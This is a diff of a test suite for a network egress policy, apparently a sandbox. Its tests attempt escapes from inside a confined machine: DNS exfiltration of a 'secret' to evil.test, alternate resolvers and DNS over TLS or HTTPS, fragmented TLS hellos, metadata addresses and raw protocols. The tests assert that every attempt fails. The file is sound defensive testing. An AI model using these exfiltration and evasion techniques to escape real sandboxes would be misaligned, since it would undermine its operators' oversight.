@@ -1,10 +1,8 @@
 /** The ways around a policy that others have left open. Each is tried from inside, and must not get out. */
 
 import { readFile } from "node:fs/promises";
-import { afterAll, beforeAll, beforeEach, describe, expect, test } from "vitest";
-import type { CustomNetwork } from "../src/core/network-policy.ts";
-import { eventually, has, needs } from "./harness.ts";
-import { type Internet, openInternet } from "./internet.ts";
+import { describe, expect, test } from "vitest";
+import { eventually } from "./harness.ts";
 import {
   evilAddress,
   hostAddress,
@@ -15,21 +13,10 @@ import {
   webAddress,
   webAddress6,
 } from "./internet-names.ts";
-import { Probe } from "./network-probe.ts";
+import { allow, lines, probeOfFile } from "./network-probe.ts";
 import { watchWire } from "./wire-watch.ts";
 
-const undo = new AsyncDisposableStack();
-let internet: Internet;
-let probe: Probe;
-let serial = 0;
-
-beforeAll(async () => {
-  if (!has("root")) return;
-  internet = await openInternet(undo);
-  probe = await Probe.start(undo, internet.host);
-}, 60_000);
-afterAll(() => undo.disposeAsync());
-beforeEach((context) => needs(context, "root", "the command python3", "the command tcpdump"));
+const { undo, internet, probe, added, under } = probeOfFile(["the command python3", "the command tcpdump"]);
 
 /** questions by hand: what getaddrinfo never asks, and what nobody should */
 const questions = `
@@ -64,8 +51,8 @@ def records(data, size):
 describe("names", () => {
   test("of others do not resolve, over UDP or TCP, and nobody outside hears of them", async () => {
     const machine = await under({ domains: allow("web.test", "*.other.test") });
-    const watch = await watchWire(undo, internet);
-    const output = await probe.python(
+    const watch = await watchWire(undo, internet());
+    const output = await probe().python(
       machine,
       `${questions}
 for name in ("evil.test", "secret.evil.test", "web.test.evil.test", "other.test", "xother.test", "test"):
@@ -80,8 +67,8 @@ for name in ("evil.test", "secret.evil.test", "web.test.evil.test", "other.test"
 
   test("carry nothing but themselves, and only records that programs connect by", async () => {
     const machine = await under({ domains: allow("*") });
-    const watch = await watchWire(undo, internet);
-    const output = await probe.python(
+    const watch = await watchWire(undo, internet());
+    const output = await probe().python(
       machine,
       `${questions}
 secret = b"stolen-by-option"
@@ -119,7 +106,7 @@ attempt("two questions", lambda: ask("web.test", 1, count=2))
 
   test("are not a channel: texts run out, and so do questions", async () => {
     const machine = await under({ domains: allow("*") });
-    const output = await probe.python(
+    const output = await probe().python(
       machine,
       `${questions}
 def many(type, count):
@@ -134,8 +121,8 @@ attempt("still", lambda: ask("web.test", 1))
 
   test("do not lead to private addresses or the host, alone or among others", async () => {
     const machine = await under({ domains: allow("private.test", "metadata.test", "host.test", "mixed.test") });
-    const watch = await watchWire(undo, internet);
-    const output = await probe.python(
+    const watch = await watchWire(undo, internet());
+    const output = await probe().python(
       machine,
       `
 for name in ("private.test", "metadata.test", "host.test"): attempt(name, lambda: socket.getaddrinfo(name, 443))
@@ -163,8 +150,8 @@ for name, address in (("private.test", "10.9.9.9"), ("private.test", "fd12::1"),
 
   test("cannot be asked for elsewhere: other resolvers, DNS over TLS, DNS over HTTPS", async () => {
     const machine = await under({ domains: allow("web.test") });
-    const watch = await watchWire(undo, internet);
-    const output = await probe.python(
+    const watch = await watchWire(undo, internet());
+    const output = await probe().python(
       machine,
       `${questions}
 def at(address, port):
@@ -195,18 +182,18 @@ attempt("doh by address", lambda: tls("${nameServer}", None))
 
 test("a resolver within an allowed subnet is no way around the names of a policy", async () => {
   const machine = await under({ domains: allow("web.test"), allowedCidrs: ["93.184.216.0/24"] });
-  const watch = await watchWire(undo, internet);
+  const watch = await watchWire(undo, internet());
   const code = `${questions}
 def at(address):
     s = udp(address, 53); s.send(question("secret.evil.test", 1)); return s.recv(100)
 attempt("udp", lambda: at("${nameServer}"))
 attempt("tcp", lambda: (lambda s: (s.sendall(b"\\0\\1x"), s.recv(1)))(tcp("${nameServer}", 53)))
 `;
-  expect(await probe.python(machine, code)).toBe(lines("udp: EHOSTUNREACH", "tcp: ECONNRESET"));
+  expect(await probe().python(machine, code)).toBe(lines("udp: EHOSTUNREACH", "tcp: ECONNRESET"));
   expect(await watch.packets()).toEqual([]);
-  await probe.policy(machine, { domains: allow("web.test"), allowedCidrs: [`${nameServer}/32`] });
+  await probe().policy(machine, { domains: allow("web.test"), allowedCidrs: [`${nameServer}/32`] });
   expect(
-    await probe.python(
+    await probe().python(
       machine,
       `${questions}
 s = udp("${nameServer}", 53); s.send(question("evil.test", 1)); print(len(s.recv(100)) > 12)`,
@@ -217,7 +204,7 @@ s = udp("${nameServer}", 53); s.send(question("evil.test", 1)); print(len(s.recv
 describe("hellos", () => {
   test("may come in pieces, and are read whole", async () => {
     const machine = await under({ domains: allow("web.test") });
-    const output = await probe.python(
+    const output = await probe().python(
       machine,
       `${hellos}
 attempt("resolved", lambda: socket.gethostbyname("web.test"))
@@ -237,8 +224,8 @@ for name, address in (("web.test", "${webAddress}"), ("evil.test", "${evilAddres
 
   test("that a server may understand otherwise than we do are refused", async () => {
     const machine = await under({ domains: allow("web.test") });
-    const watch = await watchWire(undo, internet);
-    const output = await probe.python(
+    const watch = await watchWire(undo, internet());
+    const output = await probe().python(
       machine,
       `${hellos}
 h = hello("web.test")
@@ -265,8 +252,8 @@ attempt("smtp", lambda: sent("${webAddress}", b"EHLO web.test\\r\\n", port=25))
 
 test("an allowed name opens only the addresses that it leads to, in each spelling of an address", async () => {
   const machine = await under({ domains: allow("web.test"), deniedCidrs: [`${webAddress6}/128`] });
-  const watch = await watchWire(undo, internet);
-  const output = await probe.python(
+  const watch = await watchWire(undo, internet());
+  const output = await probe().python(
     machine,
     `
 for address in ("${evilAddress}", "${otherAddress}", "${otherAddress6}", "${webAddress6}", "2606:2800:0220:0001:0:0:0:1",
@@ -282,12 +269,12 @@ for address in ("${evilAddress}", "${otherAddress}", "${otherAddress6}", "${webA
 
 test("datagrams, QUIC and other protocols stay in", async () => {
   const machine = await under({ domains: allow("*") });
-  const watch = await watchWire(undo, internet);
+  const watch = await watchWire(undo, internet());
   const datagrams = `
 for address in ("${webAddress}", "${webAddress6}"):
     for port in (7, 443): attempt("udp", lambda: echo(udp(address, port), b"hello"))
 `;
-  expect(await probe.python(machine, datagrams)).toBe(
+  expect(await probe().python(machine, datagrams)).toBe(
     lines("udp: EHOSTUNREACH", "udp: EHOSTUNREACH", "udp: EACCES", "udp: EACCES"),
   );
   const raw = `
@@ -298,26 +285,25 @@ attempt("icmp6", lambda: raw(socket.AF_INET6, socket.IPPROTO_ICMPV6, "${webAddre
 attempt("gre", lambda: raw(socket.AF_INET, 47, "${webAddress}"))
 attempt("sctp", lambda: raw(socket.AF_INET, 132, "${webAddress}"))
 `;
-  expect(await probe.asRoot(machine, raw)).toBe(lines("icmp: EPERM", "icmp6: EPERM", "gre: EPERM", "sctp: EPERM"));
+  expect(await probe().asRoot(machine, raw)).toBe(lines("icmp: EPERM", "icmp6: EPERM", "gre: EPERM", "sctp: EPERM"));
   expect(await watch.packets()).toEqual([]);
 });
 
 test("the memory of the process that knows the secrets is never written to disk", async () => {
-  const pid = await eventually("it runs", () => probe.egressPid());
+  const pid = await eventually("it runs", () => probe().egressPid());
   expect(await readFile(`/proc/${pid}/limits`, "utf8")).toMatch(/^Max core file size +1 +1 /m);
 });
 
 test("a machine whose policy is not known reaches nothing", async () => {
-  const machine = `machine-${++serial}`;
-  await probe.add(machine);
-  await probe.order("custom", machine);
-  const watch = await watchWire(undo, internet);
+  const machine = await added();
+  await probe().order("custom", machine);
+  const watch = await watchWire(undo, internet());
   const tries = [
     `attempt("name", lambda: socket.gethostbyname("web.test"))`,
     `attempt("tls", lambda: https("web.test", "${webAddress}"))`,
     `attempt("udp", lambda: echo(udp("${webAddress}", 7), b"hello"))`,
   ];
-  const outputs = await Promise.all(tries.map((each) => probe.python(machine, each)));
+  const outputs = await Promise.all(tries.map((each) => probe().python(machine, each)));
   expect(outputs.map((output) => output.replace(" SLOW", ""))).toEqual([
     "name: NONAME",
     "tls: TLSV1_ALERT_ACCESS_DENIED",
@@ -325,18 +311,3 @@ test("a machine whose policy is not known reaches nothing", async () => {
   ]);
   expect(await watch.packets()).toEqual([]);
 });
-
-async function under(policy: Partial<CustomNetwork>): Promise<string> {
-  const machine = `machine-${++serial}`;
-  await probe.add(machine);
-  await probe.policy(machine, policy);
-  return machine;
-}
-
-function allow(...domains: string[]): CustomNetwork["domains"] {
-  return domains.map((domain) => ({ domain, rules: [] }));
-}
-
-function lines(...all: string[]): string {
-  return all.join("\n");
-}
